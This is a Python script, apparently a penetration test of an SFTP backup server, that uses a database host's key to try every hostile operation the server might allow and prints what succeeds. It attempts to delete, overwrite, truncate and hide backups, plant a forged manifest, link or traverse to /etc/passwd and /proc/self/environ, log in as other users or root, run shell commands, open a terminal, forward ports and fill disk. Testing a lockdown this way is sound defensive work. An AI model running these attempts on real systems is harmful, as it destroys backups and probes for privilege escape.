"""What whoever has a database host as root can try with its key at the backup server; prints what was allowed.

``attack_server.py HOST PORT KEY KNOWN_HOSTS ACCOUNT OTHER...``: it does not ask nicely, speaks SFTP itself, knows the
names of everything, and tries each way that the protocol has.
"""

import os
import subprocess
import sys

import paramiko

HOST, PORT, KEY, KNOWN_HOSTS, ACCOUNT, *OTHERS = sys.argv[1:]
DENIED = (OSError, paramiko.SSHException, EOFError)


def connect(user=ACCOUNT):
    transport = paramiko.Transport((HOST, int(PORT)))
    transport.connect(username=user, pkey=paramiko.Ed25519Key.from_private_key_file(KEY))
    return transport


transport = connect()
sftp = transport.open_sftp_client()
files = sorted(name for name in sftp.listdir("/backups") if not name.startswith("."))
stored = [name for name in files if name.endswith(".manifest.json")]
assert stored, "there is nothing to attack"


def attempt(what, act):
    try:
        found = act()
    except DENIED:
        return
    print("allowed:", what, "" if found is None else repr(found)[:200])


def overwrite(path, mode):
    with sftp.open(path, mode) as file:
        file.write(b"destroyed")
        file.flush()


# Its own history.
for name in files:
    path = f"/backups/{name}"
    attempt(f"remove {name}", lambda path=path: sftp.remove(path))
    for mode in ("r+", "w", "a", "wx"):
        attempt(f"open {name} for {mode}", lambda path=path, mode=mode: overwrite(path, mode))
    attempt(f"cut {name}", lambda path=path: sftp.truncate(path, 0))
    attempt(f"chmod {name}", lambda path=path: sftp.chmod(path, 0o666))
    attempt(f"chown {name}", lambda path=path: sftp.chown(path, 0, 0))
    attempt(f"change times of {name}", lambda path=path: sftp.utime(path, (1, 1)))
    attempt(f"rename {name}", lambda path=path: sftp.rename(path, path + ".moved"))
    attempt(f"hide {name}", lambda path=path: sftp.rename(path, "/backups/." + path.rpartition("/")[2]))
    attempt(f"replace {name}", lambda path=path: sftp.posix_rename(path, path + ".moved"))
with sftp.open("/backups/.mine", "w") as file:
    file.write(b"destroyed")
for name in stored:
    path = f"/backups/{name}"
    attempt(f"put something over {name}", lambda path=path: sftp.rename("/backups/.mine", path))
    attempt(f"put something over {name} at once", lambda path=path: sftp.posix_rename("/backups/.mine", path))
attempt("chmod the folder", lambda: sftp.chmod("/backups", 0o777))
attempt("remove the folder", lambda: sftp.rmdir("/backups"))
attempt("rename the folder", lambda: sftp.rename("/backups", "/other"))
attempt("put a file beside the folder", lambda: overwrite("/mine", "w"))
attempt("make a folder beside it", lambda: sftp.mkdir("/mine"))
attempt("a symbolic link", lambda: sftp.symlink("/etc/passwd", "/backups/link"))
for one, other in (("/backups/" + stored[0], "/backups/hard"), ("/etc/passwd", "/backups/hard")):
    message = paramiko.Message()
    message.add_string("hardlink@openssh.com")
    message.add_string(one)
    message.add_string(other)
    attempt("a hard link", lambda message=message: sftp._request(200, message))

# Others, and the server itself.
for path in ("/etc/passwd", "/../../etc/passwd", "/proc/self/environ", "/srv/dbfleet"):
    attempt(f"look at {path}", lambda path=path: sftp.stat(path))
for other in OTHERS:
    for path in (f"/{other}", f"/../{other}/backups", f"/srv/dbfleet/{other}/backups"):
        attempt(f"list {path}", lambda path=path: sftp.listdir(path))
    attempt(f"log in as {other}", lambda other=other: connect(other))
for user in ("root", "dbfleet"):
    attempt(f"log in as {user}", lambda user=user: connect(user))

# Out of SFTP.
KNOWN = f"UserKnownHostsFile={KNOWN_HOSTS}"
SSH = ["ssh", "-p", PORT, "-i", KEY, "-o", "BatchMode=yes", "-o", KNOWN, f"{ACCOUNT}@{HOST}"]
for words in (["id"], ["sh -c id"], ["internal-sftp"], ["/usr/lib/openssh/sftp-server"], ["scp -t /tmp"]):
    done = subprocess.run([*SSH, *words], stdin=subprocess.DEVNULL, capture_output=True, timeout=120, check=False)
    if b"uid=" in done.stdout:
        print("allowed:", words, done.stdout)
NEAR, FAR = ("127.0.0.1", 1), ("127.0.0.1", 22)
attempt("forward a port", lambda: transport.open_channel("direct-tcpip", FAR, NEAR, timeout=60))


def shell():
    session = transport.open_session()
    session.get_pty()
    session.invoke_shell()


attempt("a terminal", shell)
attempt("listen there", lambda: transport.request_port_forward("", 2345))

# What is possible, and must harm nothing that is there: a false backup, and a lot of bytes.
sftp = connect().open_sftp_client()
with sftp.open("/backups/" + stored[0]) as file:
    copy = file.read()
identity = stored[0].partition("_backup_")[0] + "_backup_20990101_000000"
with sftp.open(f"/backups/{identity}.manifest.json", "w") as file:
    file.write(copy.replace(stored[0].partition(".")[0].encode(), identity.encode()))
with sftp.open("/backups/rubbish.bin", "w") as file:
    file.set_pipelined(True)
    for _number in range(6):
        file.write(os.urandom(1024 * 1024))
print("done", len(stored))
